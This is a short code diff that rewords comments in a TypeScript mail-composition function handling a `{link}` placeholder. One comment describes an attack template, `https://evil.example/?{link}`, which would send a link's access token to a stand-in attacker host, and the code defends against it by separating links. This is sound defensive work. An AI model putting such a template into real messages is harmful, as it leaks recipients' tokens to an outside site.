@@ -45,8 +45,8 @@ export function composeMail(
 }
 
 /**
- * Attack: a template with `https://evil.example/?{link}`. A mail program would treat both as a single link, and send
- * the link's token to that site.
+ * Attack: a template with `https://evil.example/?{link}`. A mail program would treat the address and the inserted link
+ * as a single link, and send the link's token to that site.
  */
 const separateLinks = (text: string): string => text.replace(/(?<=[^\s(]|\S\()\{link\}/g, ` ${linkAddress}`)
 
@@ -60,8 +60,8 @@ const linkAddress = '{link}'
 const tagOrText = /<[^>]*>|[^<]+/g
 
 /**
- * Replaces placeholders in texts, and the address `{link}`; other attributes remain unchanged. The `{link}` placeholder
- * becomes a link, unless it is already inside one.
+ * Replaces placeholders in text, and the `{link}` placeholder in link addresses. Leaves other attributes unchanged. A
+ * `{link}` placeholder in text becomes a link, unless it is already inside one.
  */
 function fillHtml(html: string, toValue: (name: MailPlaceholder) => string | undefined): string {
   let isInLink = false
